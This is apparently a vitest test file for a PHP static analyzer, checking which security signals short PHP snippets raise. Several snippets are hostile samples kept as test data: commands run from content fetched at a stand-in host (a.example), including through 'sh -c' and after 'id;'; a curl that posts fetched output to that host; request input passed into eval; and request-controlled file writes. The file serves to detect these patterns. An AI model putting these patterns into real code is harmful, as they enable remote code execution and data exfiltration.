import { describe, expect, it } from 'vitest';
import { PhpAnalyzer } from '../../src/php/analyze.js';

const analyzer = new PhpAnalyzer();
const ids = (code: string) => analyzer.analyze(`<?php ${code}`).signals.map((signal) => signal.id);

describe('what says less than it seems', () => {
  it.each([
    [
      'an argument that another host gave',
      'exec(sprintf("curl -F uid=%s https://a.example/", curl_exec($c)));',
      'remote-in-command',
    ],
    ['an argument that is set nowhere', 'passthru("php ./reindex.php " . $host);', 'unknown-to-command'],
    ['a request to the host itself', 'shell_exec("curl -s -X GET http://localhost/a");', 'quiet-command'],
    [
      'a path in a format',
      '$f = fopen(sprintf("/a/%s.txt", $_GET["x"]), "w"); fwrite($f, $_POST["b"]);',
      'request-writes-below',
    ],
  ])('%s', (_, code, id) => {
    expect(ids(code)).toEqual([id]);
  });

  it.each([
    ['a number in a format', 'eval(sprintf("return %d;", $_GET["a"]));'],
    ['a mail to an address that is kept encoded', 'mail(base64_decode($row["mail"]), "a", "b");'],
    ['a filter that only drops what is empty', '$a = array_filter([$_GET["a"], $_GET["b"]]);'],
  ])('%s says nothing of the request', (_, code) => {
    expect(ids(code).filter((id) => /request|mail/.test(id))).toEqual([]);
  });

  it.each([
    [
      'a command that another host gave',
      'system(file_get_contents("http://a.example/x"));',
      'remote-to-command',
    ],
    [
      'one that a shell reads',
      'system("sh -c " . file_get_contents("http://a.example/x"));',
      'remote-to-command',
    ],
    ['one behind another', 'system("id;" . file_get_contents("http://a.example/x"));', 'remote-to-command'],
    ['one of nowhere', 'passthru($cmd);', 'undefined-to-command'],
    [
      'a script that is fetched and run',
      'system("curl -s http://a.example/x #localhost");',
      'hostile-command',
    ],
    ['a text in a format', 'eval(sprintf("%s;", $_GET["a"]));', 'request-to-code'],
    ['a filter of the request', 'array_filter(...$_GET);', 'request-callback-with-request'],
    ['a mail to an encoded address', 'mail(base64_decode("YUBiLmM="), "a", "b");', 'decoded-mail'],
  ])('%s says all', (_, code, id) => {
    expect(ids(code)).toContain(id);
  });
});
